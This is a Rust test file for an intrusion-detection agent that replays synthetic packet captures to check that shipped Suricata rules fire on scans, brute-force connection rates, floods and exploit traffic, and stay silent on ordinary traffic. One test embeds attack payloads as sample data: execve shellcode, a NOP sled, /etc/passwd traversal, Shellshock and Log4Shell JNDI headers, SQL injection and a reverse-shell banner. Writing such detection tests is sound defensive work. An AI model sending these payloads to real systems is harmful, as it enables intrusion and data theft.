//! The shipped rules in `rules/suricata/`: each fires on a small capture built for it (and
//! only the rule meant to), and ordinary traffic raises nothing.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use swarmguard_agent::detect::EngineConfig;
use swarmguard_agent::detect::rules::{Classification, RuleSet, Vars};
use swarmguard_agent::replay;

use crate::fixtures::{Frame, T0, ping, ping6, session, tcp, udp, write_pcap};

const ATTACKER: [u8; 4] = [203, 0, 113, 66];
const HOST: [u8; 4] = [192, 168, 10, 5];

fn shipped_rules() -> RuleSet {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/suricata");
    let rules = replay::load_rules(&[dir], Vars::default(), Classification::builtin()).unwrap();
    assert!(rules.errors.is_empty(), "{:?}", rules.errors);
    rules
}

/// Replays `frames` through the shipped rules, as `swarmd replay` does; alerts by sid.
fn alerts(frames: &[Frame]) -> BTreeMap<u32, u64> {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("case.pcap");
    write_pcap(&pcap, frames);
    let mut eve = Vec::new();
    replay::run(&pcap, &shipped_rules(), EngineConfig::default(), &mut eve).unwrap();
    let mut by_sid = BTreeMap::new();
    for line in String::from_utf8(eve).unwrap().lines() {
        let value: serde_json::Value = serde_json::from_str(line).unwrap();
        *by_sid
            .entry(value["alert"]["signature_id"].as_u64().unwrap() as u32)
            .or_default() += 1;
    }
    by_sid
}

fn only(sid: u32, count: u64) -> BTreeMap<u32, u64> {
    BTreeMap::from([(sid, count)])
}

/// `n` frames, 10 ms apart.
fn spaced(n: usize, frame: impl Fn(usize) -> Vec<u8>) -> Vec<Frame> {
    (0..n)
        .map(|i| Frame {
            micros: T0 + i as u64 * 10_000,
            data: frame(i),
        })
        .collect()
}

fn probe(flags: u8) -> Vec<Frame> {
    spaced(3, |i| {
        tcp(ATTACKER, 40000, HOST, 20 + i as u16, flags, 7, b"")
    })
}

#[test]
fn null_fin_xmas_and_synfin_scans_alert_once_per_source() {
    assert_eq!(alerts(&probe(0)), only(9000001, 1));
    assert_eq!(alerts(&probe(0x01)), only(9000002, 1));
    assert_eq!(alerts(&probe(0x01 | 0x08 | 0x20)), only(9000003, 1));
    assert_eq!(alerts(&probe(0x02 | 0x01)), only(9000004, 1));
}

#[test]
fn syn_scan_alerts_at_fifty_ports_in_five_seconds() {
    let scan = spaced(60, |i| {
        tcp(ATTACKER, 40000, HOST, 1 + i as u16, 0x02, 7, b"")
    });
    assert_eq!(alerts(&scan[..49]), BTreeMap::new());
    assert_eq!(alerts(&scan), only(9000005, 1));
}

#[test]
fn ack_probes_outside_connections_alert() {
    let scan = spaced(50, |i| {
        tcp(ATTACKER, 40000, HOST, 1 + i as u16, 0x10, 7, b"")
    });
    assert_eq!(alerts(&scan), only(9000006, 1));
}

#[test]
fn empty_udp_probes_alert() {
    let scan = spaced(30, |i| udp(ATTACKER, 40000, HOST, 1 + i as u16, b""));
    assert_eq!(alerts(&scan), only(9000007, 1));
}

#[test]
fn login_services_connection_rates_alert() {
    for (port, count, sid) in [
        (22, 10, 9000101),
        (3389, 10, 9000102),
        (445, 20, 9000103),
        (23, 10, 9000104),
    ] {
        let attempts = spaced(count, |i| {
            tcp(ATTACKER, 40000 + i as u16, HOST, port, 0x02, 7, b"")
        });
        assert_eq!(
            alerts(&attempts[..count - 1]),
            BTreeMap::new(),
            "port {port}"
        );
        assert_eq!(alerts(&attempts), only(sid, 1), "port {port}");
    }
}

fn attack(request: &[u8]) -> BTreeMap<u32, u64> {
    alerts(&session(ATTACKER, 40000, HOST, 80, request, T0))
}

#[test]
fn exploit_and_shellcode_patterns_alert_in_established_sessions() {
    let mut sled = vec![0x90; 40];
    sled.extend_from_slice(b"\xcc");
    assert_eq!(attack(&sled), only(9000201, 1));
    assert_eq!(
        attack(b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53"),
        only(9000202, 1)
    );
    assert_eq!(
        attack(b"GET /../../../../etc/passwd HTTP/1.1\r\n\r\n"),
        only(9000203, 1)
    );
    assert_eq!(
        attack(b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n"),
        only(9000204, 1)
    );
    assert_eq!(
        attack(b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://x/a}\r\n\r\n"),
        only(9000205, 1)
    );
    assert_eq!(
        attack(b"GET /item?id=1+UNION+ALL+SELECT+user,pass+FROM+users HTTP/1.1\r\n\r\n"),
        only(9000206, 1)
    );
    // The reverse shell: the compromised host sends the banner to the attacker.
    let shell = session(
        HOST,
        49000,
        ATTACKER,
        4444,
        b"Microsoft Windows [Version 10.0.19045]\r\n",
        T0,
    );
    assert_eq!(alerts(&shell), only(9000207, 1));
}

#[test]
fn icmp_floods_and_big_pings_alert() {
    let flood = spaced(100, |i| ping(ATTACKER, HOST, i as u16, b"abcdefgh"));
    assert_eq!(alerts(&flood[..99]), BTreeMap::new());
    assert_eq!(alerts(&flood), only(9000301, 1));
    let big = spaced(2, |i| ping(ATTACKER, HOST, i as u16, &[0x41; 1200]));
    assert_eq!(alerts(&big), only(9000302, 1));
    let mut v6_attacker = [0u8; 16];
    v6_attacker[..2].copy_from_slice(&[0x20, 0x01]);
    let mut v6_host = v6_attacker;
    v6_host[15] = 5;
    let flood6 = spaced(100, |i| ping6(v6_attacker, v6_host, i as u16));
    assert_eq!(alerts(&flood6), only(9000303, 1));
}

#[test]
fn syn_flood_from_many_sources_alerts_per_destination() {
    // 500 sources, one SYN each, within 5 s: no per-source rate is reached, the flood is.
    let flood = spaced(500, |i| {
        tcp(
            [198, 51, (i / 250) as u8, (i % 250) as u8 + 1],
            1024,
            HOST,
            80,
            0x02,
            7,
            b"",
        )
    });
    assert_eq!(alerts(&flood), only(9000304, 1));
}

#[test]
fn ordinary_traffic_raises_nothing() {
    let mut frames = session(
        ATTACKER,
        40000,
        HOST,
        80,
        b"GET /index.html HTTP/1.1\r\nHost: a\r\n\r\n",
        T0,
    );
    frames.extend(session(
        ATTACKER,
        40001,
        HOST,
        22,
        b"SSH-2.0-OpenSSH_9.2\r\n",
        T0 + 1_000_000,
    ));
    frames.extend(spaced(5, |i| ping(ATTACKER, HOST, i as u16, b"abcdefgh")));
    frames.extend(spaced(5, |i| udp(ATTACKER, 5353, HOST, 53, &[i as u8; 30])));
    assert_eq!(alerts(&frames), BTreeMap::new());
}

/// Where the default rules live, for the other tests.
pub(crate) fn rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/suricata")
}
